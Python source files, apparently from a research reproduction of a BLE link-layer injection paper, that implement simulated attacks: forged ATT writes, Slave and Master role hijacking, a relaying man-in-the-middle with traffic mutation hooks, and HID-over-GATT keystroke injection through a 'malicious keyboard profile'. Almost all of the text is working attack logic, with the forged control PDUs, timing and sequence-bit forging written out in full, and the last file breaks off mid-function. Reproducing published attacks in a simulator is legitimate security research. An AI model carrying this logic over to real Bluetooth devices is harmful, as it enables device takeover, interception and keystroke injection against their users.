    """Polls the real Slave on the attacker's schedule.

    Args:
        sim: owning simulator.
        radio: attacker transceiver to use.
        conn: sniffed connection state positioned so that
            ``last_anchor_us`` is the time of the fake Master's first
            transmission (e.g. the forged update's window start).
        on_data: callback for L2CAP payloads the Slave sends.
        forged_bits: (SN, NESN) for the first poll, from
            :meth:`SniffedConnection.forged_bits`; ``None`` uses (0, 0).
    """

    def __init__(
        self,
        sim: Simulator,
        radio: Transceiver,
        conn: SniffedConnection,
        on_data: Optional[Callable[[bytes], None]] = None,
        forged_bits: Optional[tuple[int, int]] = None,
        name: str = "fake-master",
    ):
        self.sim = sim
        self.radio = radio
        self.conn = conn
        self.name = name
        self.on_data = on_data
        self.on_lost: Optional[Callable[[str], None]] = None
        self.arq = _MiniArq()
        if forged_bits is not None:
            sn, nesn = forged_bits
            self.arq.transmit_seq = sn
            self.arq.next_expected = nesn
            self.arq.initialized = True
        self.tx_queue: deque[DataPdu] = deque()
        self._events: list[Event] = []
        self._missed = 0
        self._running = False
        self._awaiting = False
        self.polls_sent = 0
        self.responses_heard = 0

    # ------------------------------------------------------------------
    # Host-side API
    # ------------------------------------------------------------------

    def queue_l2cap(self, payload: bytes) -> None:
        """Queue an L2CAP frame toward the Slave."""
        self.tx_queue.append(DataPdu.make(LLID.DATA_START, payload))

    def queue_att(self, att_bytes: bytes) -> None:
        """Queue an ATT PDU toward the Slave."""
        self.queue_l2cap(l2cap_encode(CID_ATT, att_bytes))

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------

    def start(self, first_tx_us: Optional[float] = None) -> None:
        """Start polling; first frame at ``first_tx_us`` (default: the
        connection's ``last_anchor_us``)."""
        if self.conn.last_anchor_us is None and first_tx_us is None:
            raise HijackError("fake master needs a first transmit time")
        self._running = True
        self.radio.on_frame = self._on_frame
        t0 = first_tx_us if first_tx_us is not None else self.conn.last_anchor_us
        assert t0 is not None
        self.conn.note_anchor(t0)
        self._schedule(t0, self._poll, f"{self.name}-first-poll")

    def stop(self) -> None:
        """Stop polling."""
        self._running = False
        for event in self._events:
            event.cancel()
        self._events.clear()
        self.radio.stop_listening()

    def _schedule(self, time_us: float, handler, label: str) -> Event:
        event = self.sim.schedule_at(max(time_us, self.sim.now), handler, label)
        self._events.append(event)
        if len(self._events) > 64:
            # Amortised compaction: fired and cancelled handles are
            # inert (cancel() on them is a no-op), so dropping them
            # lazily keeps this O(1) per call instead of O(n).
            self._events = [e for e in self._events if e.pending]
        return event

    def _poll(self) -> None:
        if not self._running:
            return
        channel = self.conn.current_channel
        if channel is None:
            channel = self.conn.advance_event()
        pdu = self.arq.next_pdu(self.tx_queue)
        pdu_bytes = pdu.to_bytes()
        crc = compute_crc(pdu_bytes, self.conn.params.crc_init)
        frame = self.radio.transmit(self.conn.params.access_address, pdu_bytes,
                                    crc, channel, phy=self.conn.phy)
        self.conn.note_anchor(frame.start_us)
        self.polls_sent += 1
        self._awaiting = True
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.name, "fake-master-poll",
                                  event_count=self.conn.event_count,
                                  channel=channel)
        self._schedule(frame.end_us + 0.5,
                       lambda ch=channel: self._tune_rx(ch),
                       f"{self.name}-rx-on")
        self._schedule(frame.end_us + T_IFS_US + 500.0, self._response_timeout,
                       f"{self.name}-deadline")

    def _tune_rx(self, channel: int) -> None:
        self.radio.rx_phy = self.conn.phy
        self.radio.listen(channel)

    def _response_timeout(self) -> None:
        if not self._running or not self._awaiting:
            return
        lock_end = self.radio.medium.lock_end_of(self.radio)
        if lock_end is not None:
            self._schedule(lock_end + 2.0, self._response_timeout,
                           f"{self.name}-extend")
            return
        self._awaiting = False
        self.radio.stop_listening()
        self._missed += 1
        if self._missed >= _ROLE_LOSS_THRESHOLD:
            self._lost("slave silent")
            return
        self._arm_next_poll()

    def _on_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        if not self._running or not self._awaiting:
            return
        if frame.access_address != self.conn.params.access_address:
            return
        self._awaiting = False
        for event in self._events:
            event.cancel()
        self._events.clear()
        self._missed = 0
        self.radio.stop_listening()
        if verify_crc(frame, self.conn.params.crc_init):
            pdu = DataPdu.from_bytes(frame.pdu)
            self.responses_heard += 1
            is_new = self.arq.on_received(pdu.header.sn, pdu.header.nesn)
            if is_new and len(pdu.payload) > 0 and not pdu.is_control:
                if self.on_data is not None:
                    self.on_data(pdu.payload)
        self._arm_next_poll()

    def _arm_next_poll(self) -> None:
        if not self._running:
            return
        self.conn.advance_event()
        next_tx = self.conn.predicted_anchor_us()
        self._schedule(next_tx, self._poll, f"{self.name}-poll")

    def _lost(self, reason: str) -> None:
        self.stop()
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.name, "fake-master-lost",
                                  reason=reason)
        if self.on_lost is not None:
            self.on_lost(reason)
