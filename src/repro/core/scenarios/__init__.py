"""The paper's four attack scenarios (§VI).

* Scenario A — illegitimately trigger a device feature via injected ATT
  requests (:class:`IllegitimateUseScenario`);
* Scenario B — hijack the Slave role via an injected LL_TERMINATE_IND
  (:class:`SlaveHijackScenario`);
* Scenario C — hijack the Master role via a forged connection update
  (:class:`MasterHijackScenario`);
* Scenario D — full Man-in-the-Middle on an established connection
  (:class:`MitmScenario`);
* Scenario E — the paper's §IX future work: HID-over-GATT keystroke
  injection after a Slave hijack (:class:`KeystrokeInjectionScenario`).
"""

from repro.core.scenarios.scenario_a import IllegitimateUseScenario
from repro.core.scenarios.scenario_b import SlaveHijackScenario
from repro.core.scenarios.scenario_c import MasterHijackScenario
from repro.core.scenarios.scenario_d import MitmScenario
from repro.core.scenarios.scenario_e import KeystrokeInjectionScenario

__all__ = [
    "IllegitimateUseScenario",
    "KeystrokeInjectionScenario",
    "MasterHijackScenario",
    "MitmScenario",
    "SlaveHijackScenario",
]
