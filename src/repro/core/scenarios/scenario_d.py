"""Scenario D: Man-in-the-Middle on an established connection (§VI-C).

Same entry as Scenario C — a forged ``LL_CONNECTION_UPDATE_IND`` — but at
the instant the attacker forks:

* toward the **Slave**: a fake Master polls on the new (attacker-chosen)
  schedule;
* toward the **Master**: a fake Slave answers on the old schedule, which
  the real Slave abandoned.

Traffic is relayed between the halves through mutation hooks, reproducing
the paper's on-the-fly SMS and RGB rewrites.  The two halves use separate
transceivers at the attacker's position (the schedules interleave in time
but overlap occasionally; see DESIGN.md for the substitution note).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.injection import InjectionReport
from repro.core.roles import FakeMaster, FakeSlave
from repro.core.sniffer import SniffedEvent
from repro.errors import AttackError
from repro.ll.pdu.control import ConnectionUpdateInd
from repro.sim.clock import SleepClock
from repro.sim.transceiver import Transceiver
from repro.utils.units import T_IFS_US

#: Safety margin inside the new transmit window for the first poll:
#: one inter-frame space, the smallest spec-visible timing quantum.
_FIRST_POLL_OFFSET_US = T_IFS_US

#: Hook type: receives an L2CAP frame, returns the (possibly modified)
#: frame to forward, or ``None`` to drop it.
RelayHook = Callable[[bytes], Optional[bytes]]


@dataclass
class ScenarioDResult:
    """Outcome of the MitM.

    Attributes:
        report: injection report of the forged connection update.
        fake_master: Slave-facing half (None on failure).
        fake_slave: Master-facing half (None on failure).
    """

    report: InjectionReport
    fake_master: Optional[FakeMaster] = None
    fake_slave: Optional[FakeSlave] = None

    @property
    def success(self) -> bool:
        """Whether both relay halves are running."""
        return (self.report.success and self.fake_master is not None
                and self.fake_slave is not None)


class MitmScenario:
    """Full MitM via a forged connection update.

    Args:
        attacker: a synchronised attacker.
        master_to_slave: mutation hook for Master→Slave L2CAP frames.
        slave_to_master: mutation hook for Slave→Master L2CAP frames.
        new_interval / win_offset / win_size / instant_delta: forged-update
            parameters, as in Scenario C.
    """

    def __init__(
        self,
        attacker: Attacker,
        master_to_slave: Optional[RelayHook] = None,
        slave_to_master: Optional[RelayHook] = None,
        new_interval: Optional[int] = None,
        win_offset: int = 3,
        win_size: int = 2,
        instant_delta: int = 40,
    ):
        if win_offset < 1:
            raise AttackError("win_offset must be >= 1 to desynchronise")
        self.attacker = attacker
        self.master_to_slave = master_to_slave
        self.slave_to_master = slave_to_master
        self.new_interval = new_interval
        self.win_offset = win_offset
        self.win_size = win_size
        self.instant_delta = instant_delta
        self.fake_master: Optional[FakeMaster] = None
        self.fake_slave: Optional[FakeSlave] = None
        self._update: Optional[ConnectionUpdateInd] = None
        self._on_done: Optional[Callable[[ScenarioDResult], None]] = None
        self._prev_on_event = None
        self._report: Optional[InjectionReport] = None
        self._relay_radio: Optional[Transceiver] = None

    def run(self, on_done: Optional[Callable[[ScenarioDResult], None]] = None
            ) -> None:
        """Inject the forged update, then fork into the two relay halves."""
        conn = self.attacker.connection
        if conn is None:
            raise AttackError("attacker is not synchronised")
        self._on_done = on_done
        interval = (self.new_interval if self.new_interval is not None
                    else conn.params.interval)
        self._update = ConnectionUpdateInd(
            win_size=self.win_size,
            win_offset=self.win_offset,
            interval=interval,
            latency=0,
            timeout=conn.params.timeout,
            instant=(conn.event_count + self.instant_delta) & 0xFFFF,
        )
        self.attacker.inject_control(self._update, on_done=self._injected)

    # ------------------------------------------------------------------
    # Phases
    # ------------------------------------------------------------------

    def _injected(self, report: InjectionReport) -> None:
        conn = self.attacker.connection
        assert conn is not None and self._update is not None
        if not report.success:
            self._finish(ScenarioDResult(report=report))
            return
        if not conn.instant_in_future_for(self._update.instant):
            self._update = None
            self.run(self._on_done)
            return
        conn.observe_update(self._update)
        self._report = report
        self._prev_on_event = self.attacker.sniffer.on_event
        self.attacker.sniffer.on_event = self._watch_for_instant
        self.attacker.resume_sniffing()

    def _watch_for_instant(self, event: SniffedEvent) -> None:
        if self._prev_on_event is not None:
            self._prev_on_event(event)
        conn = self.attacker.connection
        assert conn is not None and self._update is not None
        if ((self._update.instant - 1 - conn.event_count) & 0xFFFF) != 0:
            return
        self.attacker.sniffer.on_event = self._prev_on_event
        self.attacker.sniffer.cancel()
        self._fork(conn)

    def _fork(self, conn) -> None:
        sim = self.attacker.sim
        # Master-facing half keeps the old schedule: fork the state before
        # the update applies.
        old_conn = conn.clone()
        old_conn.advance_event()  # the instant event, old parameters
        forged = conn.forged_bits() if conn.slave_bits.seen else (0, 0)
        conn.advance_event()  # applies the forged update (new schedule)

        self._relay_radio = self._make_relay_radio()
        fake_slave = FakeSlave(
            sim, self._relay_radio, old_conn,
            on_data=self._relay_master_to_slave,
            name=f"{self.attacker.name}-mitm-slave",
        )
        fake_master = FakeMaster(
            sim, self.attacker.radio, conn,
            on_data=self._relay_slave_to_master,
            forged_bits=forged,
            name=f"{self.attacker.name}-mitm-master",
        )
        self.fake_slave = fake_slave
        self.fake_master = fake_master
        # The fake slave must catch the legitimate Master's frame at the
        # instant event, which is imminent on the old schedule.
        fake_slave._running = True
        fake_slave.radio.on_frame = fake_slave._on_frame
        predicted = old_conn.predicted_anchor_us()
        from repro.ll.timing import window_widening_us
        w = window_widening_us(old_conn.params.master_sca_ppm, 50.0,
                               predicted - (old_conn.last_anchor_us or predicted))
        fake_slave._schedule(predicted - w - 250.0,
                             lambda: fake_slave._open(old_conn.current_channel or 0),
                             "mitm-slave-first-open")
        fake_slave._schedule(predicted + w + 250.0, fake_slave._window_closed,
                             "mitm-slave-first-close")
        first_tx = (conn.last_anchor_us or sim.now)
        fake_master.start(first_tx_us=first_tx + _FIRST_POLL_OFFSET_US)
        self._finish(ScenarioDResult(report=self._report,
                                     fake_master=fake_master,
                                     fake_slave=fake_slave))

    def _make_relay_radio(self) -> Transceiver:
        sim = self.attacker.sim
        medium = self.attacker.medium
        name = f"{self.attacker.name}#relay"
        position = medium.topology.position_of(self.attacker.name)
        medium.topology.place(name, position.x, position.y)
        return Transceiver(
            sim, medium, name,
            clock=SleepClock(10.0, rng=sim.streams.get(f"clock-{name}"),
                             jitter_us=0.5),
            tx_power_dbm=self.attacker.radio.tx_power_dbm,
        )

    # ------------------------------------------------------------------
    # Relaying
    # ------------------------------------------------------------------

    def _relay_master_to_slave(self, l2cap_frame: bytes) -> None:
        forwarded: Optional[bytes] = l2cap_frame
        if self.master_to_slave is not None:
            forwarded = self.master_to_slave(l2cap_frame)
        if forwarded is not None and self.fake_master is not None:
            self.fake_master.queue_l2cap(forwarded)
            self.attacker.sim.trace.record(
                self.attacker.sim.now, self.attacker.name, "mitm-relay",
                direction="m->s", mutated=forwarded != l2cap_frame,
            )

    def _relay_slave_to_master(self, l2cap_frame: bytes) -> None:
        forwarded: Optional[bytes] = l2cap_frame
        if self.slave_to_master is not None:
            forwarded = self.slave_to_master(l2cap_frame)
        if forwarded is not None and self.fake_slave is not None:
            self.fake_slave.queue_l2cap(forwarded)
            self.attacker.sim.trace.record(
                self.attacker.sim.now, self.attacker.name, "mitm-relay",
                direction="s->m", mutated=forwarded != l2cap_frame,
            )

    def _finish(self, result: ScenarioDResult) -> None:
        if self._on_done is not None:
            self._on_done(result)
