"""Scenario B: hijacking the Slave role (paper §VI-B, Fig. 6).

A single injected ``LL_TERMINATE_IND`` is accepted by the Slave (which
acknowledges and exits the connection) while the Master — which never sees
the injected frame — keeps polling.  The attacker then answers those polls
as a fake Slave, optionally backed by a GATT server so reads of the Device
Name return "Hacked", as in the paper's demonstration.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.injection import InjectionReport
from repro.core.roles import FakeSlave
from repro.errors import AttackError
from repro.host.gatt.server import GattServer
from repro.host.l2cap import CID_ATT, l2cap_decode
from repro.ll.pdu.control import TerminateInd


@dataclass
class ScenarioBResult:
    """Outcome of the Slave hijack.

    Attributes:
        report: injection report for the LL_TERMINATE_IND.
        fake_slave: the impersonation role (running when successful).
    """

    report: InjectionReport
    fake_slave: Optional[FakeSlave] = None

    @property
    def success(self) -> bool:
        """Whether the terminate was injected and impersonation started."""
        return self.report.success and self.fake_slave is not None


class SlaveHijackScenario:
    """Terminates the real Slave and impersonates it.

    Args:
        attacker: a synchronised attacker.
        gatt_server: the GATT profile the fake Slave serves; by default a
            clone of nothing but a Device Name of "Hacked" should be built
            by the caller (see :func:`hacked_gatt_server`).
    """

    def __init__(self, attacker: Attacker, gatt_server: Optional[GattServer] = None):
        self.attacker = attacker
        self.gatt_server = gatt_server
        self.fake_slave: Optional[FakeSlave] = None

    def run(self, on_done: Optional[Callable[[ScenarioBResult], None]] = None,
            error_code: int = 0x13) -> None:
        """Inject LL_TERMINATE_IND, then take over the Slave role."""
        conn = self.attacker.connection
        if conn is None:
            raise AttackError("attacker is not synchronised")

        def _injected(report: InjectionReport) -> None:
            if not report.success:
                if on_done is not None:
                    on_done(ScenarioBResult(report=report))
                return
            fake = FakeSlave(
                self.attacker.sim, self.attacker.radio, conn,
                on_data=self._on_master_data,
                name=f"{self.attacker.name}-fake-slave",
            )
            self.fake_slave = fake
            if self.gatt_server is not None:
                self.gatt_server.send = fake.queue_att
            fake.start()
            if on_done is not None:
                on_done(ScenarioBResult(report=report, fake_slave=fake))

        self.attacker.inject_control(TerminateInd(error_code=error_code),
                                     on_done=_injected)

    def _on_master_data(self, l2cap_frame: bytes) -> None:
        """Serve the Master's ATT requests from the fake GATT profile."""
        if self.gatt_server is None or self.fake_slave is None:
            return
        try:
            cid, att = l2cap_decode(l2cap_frame)
        except Exception:
            return
        if cid != CID_ATT:
            return
        response = self.gatt_server.handle_request(att)
        if response is not None:
            self.fake_slave.queue_att(response)


def hacked_gatt_server(device_name: str = "Hacked") -> GattServer:
    """A minimal GATT profile whose Device Name reads ``device_name``.

    Reproduces the paper's demonstration: after the hijack, a Read Request
    on the Device Name characteristic returns the forged value.
    """
    from repro.host.gatt.attributes import Characteristic, Service
    from repro.host.gatt.uuids import UUID_DEVICE_NAME, UUID_GAP_SERVICE

    server = GattServer()
    gap = Service(UUID_GAP_SERVICE)
    gap.add(Characteristic(UUID_DEVICE_NAME, value=device_name.encode(),
                           read=True, write=True))
    server.register(gap)
    return server
