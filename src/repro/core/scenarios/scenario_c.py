"""Scenario C: hijacking the Master role (paper §VI-C, Fig. 7).

The attacker injects a forged ``LL_CONNECTION_UPDATE_IND``.  At the chosen
*instant* the Slave re-times itself onto the attacker's transmit window and
ignores the legitimate Master, which keeps transmitting on the old schedule
until its supervision timeout fires.  The attacker transmits in the new
window, becoming the Slave's Master — with a single injected frame, where
BTLEJack needed sustained jamming.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.injection import InjectionReport
from repro.core.roles import FakeMaster
from repro.core.sniffer import SniffedEvent
from repro.errors import AttackError
from repro.ll.pdu.control import ConnectionUpdateInd
from repro.utils.units import T_IFS_US

#: Safety margin inside the new transmit window for the first poll:
#: one inter-frame space, the smallest spec-visible timing quantum.
_FIRST_POLL_OFFSET_US = T_IFS_US


@dataclass
class ScenarioCResult:
    """Outcome of the Master hijack.

    Attributes:
        report: injection report of the forged connection update.
        fake_master: the attacker's Master role (running when successful).
        update: the injected update PDU.
    """

    report: InjectionReport
    fake_master: Optional[FakeMaster] = None
    update: Optional[ConnectionUpdateInd] = None

    @property
    def success(self) -> bool:
        """Whether the hijack reached the Master takeover."""
        return self.report.success and self.fake_master is not None


class MasterHijackScenario:
    """Forged-connection-update Master takeover.

    Args:
        attacker: a synchronised attacker.
        new_interval: interval (slots) after the update; default keeps the
            old one (maximally stealthy).
        win_offset: transmit-window offset of the forged update (slots);
            must be >= 1 so the Slave leaves the legitimate anchor behind.
        win_size: transmit-window size (slots).
        instant_delta: events between injection start and the instant —
            generous, so retries still land before the instant.
    """

    def __init__(
        self,
        attacker: Attacker,
        new_interval: Optional[int] = None,
        win_offset: int = 3,
        win_size: int = 2,
        instant_delta: int = 40,
    ):
        if win_offset < 1:
            raise AttackError("win_offset must be >= 1 to desynchronise")
        self.attacker = attacker
        self.new_interval = new_interval
        self.win_offset = win_offset
        self.win_size = win_size
        self.instant_delta = instant_delta
        self.fake_master: Optional[FakeMaster] = None
        self._update: Optional[ConnectionUpdateInd] = None
        self._on_done: Optional[Callable[[ScenarioCResult], None]] = None
        self._prev_on_event = None

    def run(self, on_done: Optional[Callable[[ScenarioCResult], None]] = None
            ) -> None:
        """Inject the forged update, wait for its instant, take over."""
        conn = self.attacker.connection
        if conn is None:
            raise AttackError("attacker is not synchronised")
        self._on_done = on_done
        interval = (self.new_interval if self.new_interval is not None
                    else conn.params.interval)
        self._update = ConnectionUpdateInd(
            win_size=self.win_size,
            win_offset=self.win_offset,
            interval=interval,
            latency=0,
            timeout=conn.params.timeout,
            instant=(conn.event_count + self.instant_delta) & 0xFFFF,
        )
        self.attacker.inject_control(self._update, on_done=self._injected)

    # ------------------------------------------------------------------
    # Phases
    # ------------------------------------------------------------------

    def _injected(self, report: InjectionReport) -> None:
        conn = self.attacker.connection
        assert conn is not None and self._update is not None
        if not report.success:
            self._finish(ScenarioCResult(report=report))
            return
        if not conn.instant_in_future_for(self._update.instant):
            # Too many attempts burned the margin; re-arm with a new
            # instant (the Slave rejected the stale one anyway).
            self._update = None
            self.run(self._on_done)
            return
        conn.observe_update(self._update)
        self._report = report
        # Keep following passively until the event before the instant.
        self._prev_on_event = self.attacker.sniffer.on_event
        self.attacker.sniffer.on_event = self._watch_for_instant
        self.attacker.resume_sniffing()

    def _watch_for_instant(self, event: SniffedEvent) -> None:
        if self._prev_on_event is not None:
            self._prev_on_event(event)
        conn = self.attacker.connection
        assert conn is not None and self._update is not None
        instant = self._update.instant
        if ((instant - 1 - conn.event_count) & 0xFFFF) != 0:
            return
        # The next event is the instant: take the radio and become Master.
        self.attacker.sniffer.on_event = self._prev_on_event
        self.attacker.sniffer.cancel()
        forged = conn.forged_bits() if conn.slave_bits.seen else (0, 0)
        conn.advance_event()  # applies the update, re-bases the anchor
        fake = FakeMaster(
            self.attacker.sim, self.attacker.radio, conn,
            forged_bits=forged,
            name=f"{self.attacker.name}-fake-master",
        )
        self.fake_master = fake
        first_tx = (conn.last_anchor_us or self.attacker.sim.now)
        fake.start(first_tx_us=first_tx + _FIRST_POLL_OFFSET_US)
        self._finish(ScenarioCResult(report=self._report, fake_master=fake,
                                     update=self._update))

    def _finish(self, result: ScenarioCResult) -> None:
        if self._on_done is not None:
            self._on_done(result)
