"""Scenario A: illegitimately using a device functionality (paper §VI-A).

The straightforward application of the injection primitive: forge an ATT
request (Write Request, Write Command or Read Request), wrap it in L2CAP,
and inject it as if the Master had sent it.  The Slave's ATT server
processes it exactly like legitimate traffic — turning the lightbulb off,
ringing the keyfob, pushing a forged SMS to the watch — and its response
(e.g. the Read Response with the attribute value) arrives in the very
Slave frame the success heuristic inspects.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.injection import InjectionReport
from repro.errors import AttackError
from repro.host.att.pdus import ReadReq, WriteCmd, WriteReq
from repro.host.l2cap import CID_ATT, l2cap_decode, l2cap_encode
from repro.ll.pdu.data import LLID


@dataclass
class ScenarioAResult:
    """Outcome of one injected ATT request.

    Attributes:
        report: the raw injection report.
        response_att: ATT bytes of the Slave's in-band answer, when the
            successful attempt's response frame carried one.
    """

    report: InjectionReport
    response_att: Optional[bytes] = None

    @property
    def success(self) -> bool:
        """Whether the request was injected successfully."""
        return self.report.success


class IllegitimateUseScenario:
    """Injects ATT requests into a live connection.

    Args:
        attacker: a synchronised :class:`~repro.core.attacker.Attacker`.
    """

    def __init__(self, attacker: Attacker):
        self.attacker = attacker

    # ------------------------------------------------------------------
    # Request builders
    # ------------------------------------------------------------------

    @staticmethod
    def write_request_payload(handle: int, value: bytes) -> bytes:
        """LL payload for an injected ATT Write Request."""
        return l2cap_encode(CID_ATT, WriteReq(handle, value).to_bytes())

    @staticmethod
    def write_command_payload(handle: int, value: bytes) -> bytes:
        """LL payload for an injected ATT Write Command."""
        return l2cap_encode(CID_ATT, WriteCmd(handle, value).to_bytes())

    @staticmethod
    def read_request_payload(handle: int) -> bytes:
        """LL payload for an injected ATT Read Request."""
        return l2cap_encode(CID_ATT, ReadReq(handle).to_bytes())

    # ------------------------------------------------------------------
    # Execution
    # ------------------------------------------------------------------

    def inject_write(self, handle: int, value: bytes,
                     on_done: Optional[Callable[[ScenarioAResult], None]] = None,
                     with_response: bool = True) -> None:
        """Inject a write (request or command) to ``handle``."""
        payload = (self.write_request_payload(handle, value) if with_response
                   else self.write_command_payload(handle, value))
        self._run(payload, on_done)

    def inject_read(self, handle: int,
                    on_done: Optional[Callable[[ScenarioAResult], None]] = None
                    ) -> None:
        """Inject a Read Request; the result carries the Read Response."""
        self._run(self.read_request_payload(handle), on_done)

    def inject_raw_att(self, att_bytes: bytes,
                       on_done: Optional[Callable[[ScenarioAResult], None]] = None
                       ) -> None:
        """Inject arbitrary ATT bytes (any request the target supports)."""
        self._run(l2cap_encode(CID_ATT, att_bytes), on_done)

    def _run(self, payload: bytes,
             on_done: Optional[Callable[[ScenarioAResult], None]]) -> None:
        if self.attacker.connection is None:
            raise AttackError("attacker is not synchronised")

        def _finished(report: InjectionReport) -> None:
            result = ScenarioAResult(report=report,
                                     response_att=self._extract_response(report))
            if on_done is not None:
                on_done(result)

        self.attacker.inject(payload, LLID.DATA_START, _finished)

    @staticmethod
    def _extract_response(report: InjectionReport) -> Optional[bytes]:
        """Pull the ATT answer out of the successful attempt's response.

        The Slave's answer to an injected request is usually queued for the
        *next* connection event, but fast stacks answer in the same frame;
        we surface it when present (the caller can also keep sniffing to
        capture later responses).
        """
        if not report.records:
            return None
        last = report.records[-1]
        payload = getattr(last, "response_payload", None)
        if not payload:
            return None
        try:
            cid, att = l2cap_decode(payload)
        except Exception:
            return None
        return att if cid == CID_ATT else None
