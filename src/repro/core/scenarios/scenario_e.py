"""Scenario E (the paper's future work, §IX): HID keystroke injection.

The conclusion sketches the follow-on attack: after hijacking the Slave
role, "transmit an ATT notification indicating that the ATT server
structure has been modified ... expose a malicious keyboard profile
instead of the original one, and inject keystrokes to the Master by
implementing HID over GATT".  This module implements exactly that chain:

1. Scenario B terminates the real Slave and splices in a fake one;
2. the fake Slave serves a **HID-over-GATT keyboard profile** and sends a
   *Service Changed* indication so the Central re-discovers it;
3. keystrokes are injected as notifications on the HID Report
   characteristic, encoded as standard boot-keyboard input reports.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.scenarios.scenario_b import ScenarioBResult, SlaveHijackScenario
from repro.errors import AttackError
from repro.host.att.pdus import HandleValueInd, HandleValueNtf
from repro.host.gatt.attributes import Characteristic, Service
from repro.host.gatt.server import GattServer
from repro.host.gatt.uuids import UUID_DEVICE_NAME, UUID_GAP_SERVICE

#: HID-over-GATT assigned numbers.
UUID_HID_SERVICE = 0x1812
UUID_HID_INFORMATION = 0x2A4A
UUID_HID_REPORT_MAP = 0x2A4B
UUID_HID_REPORT = 0x2A4D
UUID_HID_PROTOCOL_MODE = 0x2A4E
UUID_GATT_SERVICE = 0x1801
UUID_SERVICE_CHANGED = 0x2A05

#: Minimal boot-keyboard report map (usage page/usage only; enough for
#: hosts that accept boot protocol).
BOOT_KEYBOARD_REPORT_MAP = bytes.fromhex("05010906a101c0")

#: HID modifier bit for Left Shift.
MOD_LSHIFT = 0x02

#: ASCII → (HID usage id, needs-shift).  Boot keyboard usage table.
_KEYMAP: dict[str, tuple[int, bool]] = {}
for i, ch in enumerate("abcdefghijklmnopqrstuvwxyz"):
    _KEYMAP[ch] = (0x04 + i, False)
    _KEYMAP[ch.upper()] = (0x04 + i, True)
for i, ch in enumerate("1234567890"):
    _KEYMAP[ch] = (0x1E + i, False)
_KEYMAP.update({
    "\n": (0x28, False), " ": (0x2C, False), "-": (0x2D, False),
    "=": (0x2E, False), ".": (0x37, False), ",": (0x36, False),
    "/": (0x38, False), ";": (0x33, False), "'": (0x34, False),
    "!": (0x1E, True), "@": (0x1F, True), "#": (0x20, True),
    "$": (0x21, True), "%": (0x22, True), "^": (0x23, True),
    "&": (0x24, True), "*": (0x25, True), "(": (0x26, True),
    ")": (0x27, True), "_": (0x2D, True), "+": (0x2E, True),
    "?": (0x38, True), ":": (0x33, True), '"': (0x34, True),
})


def encode_keystroke(char: str) -> tuple[bytes, bytes]:
    """(key-down report, key-up report) for one character.

    A boot-keyboard input report is ``modifiers | reserved | 6 keycodes``.
    """
    if len(char) != 1:
        raise AttackError(f"one character at a time, got {char!r}")
    try:
        usage, shift = _KEYMAP[char]
    except KeyError:
        raise AttackError(f"no HID usage for {char!r}") from None
    modifiers = MOD_LSHIFT if shift else 0x00
    down = bytes([modifiers, 0, usage, 0, 0, 0, 0, 0])
    up = bytes(8)
    return down, up


def decode_reports(reports: list[bytes]) -> str:
    """Inverse of :func:`encode_keystroke` over a report stream (tests)."""
    reverse: dict[tuple[int, bool], str] = {}
    for char, (usage, shift) in _KEYMAP.items():
        reverse.setdefault((usage, shift), char)
    out = []
    for report in reports:
        if len(report) < 3 or report[2] == 0:
            continue  # key-up
        shift = bool(report[0] & MOD_LSHIFT)
        char = reverse.get((report[2], shift))
        if char is not None:
            out.append(char)
    return "".join(out)


def hid_keyboard_gatt_server(device_name: str = "Keyboard") -> GattServer:
    """A malicious HID-over-GATT keyboard profile."""
    server = GattServer()
    gap = Service(UUID_GAP_SERVICE)
    gap.add(Characteristic(UUID_DEVICE_NAME, value=device_name.encode(),
                           read=True))
    server.register(gap)
    gatt_service = Service(UUID_GATT_SERVICE)
    gatt_service.add(Characteristic(UUID_SERVICE_CHANGED, read=False,
                                    indicate=True))
    server.register(gatt_service)
    hid = Service(UUID_HID_SERVICE)
    hid.add(Characteristic(UUID_HID_PROTOCOL_MODE, value=b"\x01", read=True,
                           write_no_rsp=True))
    hid.add(Characteristic(UUID_HID_INFORMATION,
                           value=b"\x11\x01\x00\x02", read=True))
    hid.add(Characteristic(UUID_HID_REPORT_MAP,
                           value=BOOT_KEYBOARD_REPORT_MAP, read=True))
    hid.add(Characteristic(UUID_HID_REPORT, value=bytes(8), read=True,
                           notify=True))
    server.register(hid)
    return server


@dataclass
class ScenarioEResult:
    """Outcome of the keystroke-injection chain.

    Attributes:
        hijack: the underlying Scenario B result.
        keystrokes_sent: number of input reports pushed to the Master.
    """

    hijack: ScenarioBResult
    keystrokes_sent: int = 0

    @property
    def success(self) -> bool:
        """Whether the malicious keyboard is live."""
        return self.hijack.success


class KeystrokeInjectionScenario:
    """Hijack the Slave, expose a keyboard, type into the Master.

    Args:
        attacker: a synchronised attacker.
        device_name: Device Name the malicious keyboard advertises.
    """

    def __init__(self, attacker: Attacker, device_name: str = "Keyboard"):
        self.attacker = attacker
        self.gatt = hid_keyboard_gatt_server(device_name)
        self._hijack = SlaveHijackScenario(attacker, gatt_server=self.gatt)
        self.report_char = self.gatt.find_characteristic(UUID_HID_REPORT)
        self.service_changed_char = self.gatt.find_characteristic(
            UUID_SERVICE_CHANGED)
        self.result: Optional[ScenarioEResult] = None

    def run(self, on_done: Optional[Callable[[ScenarioEResult], None]] = None
            ) -> None:
        """Run the hijack, then announce the new ATT structure."""

        def _hijacked(hijack: ScenarioBResult) -> None:
            result = ScenarioEResult(hijack=hijack)
            self.result = result
            if hijack.success:
                # "Transmit an ATT notification indicating that the ATT
                # server structure has been modified" (§IX): a Service
                # Changed indication over the whole handle range.
                assert hijack.fake_slave is not None
                assert self.service_changed_char is not None
                hijack.fake_slave.queue_att(
                    HandleValueInd(self.service_changed_char.value_handle,
                                   b"\x01\x00\xff\xff").to_bytes())
            if on_done is not None:
                on_done(result)

        self._hijack.run(on_done=_hijacked)

    def type_text(self, text: str) -> int:
        """Queue key-down/key-up report notifications spelling ``text``."""
        if self.result is None or not self.result.success:
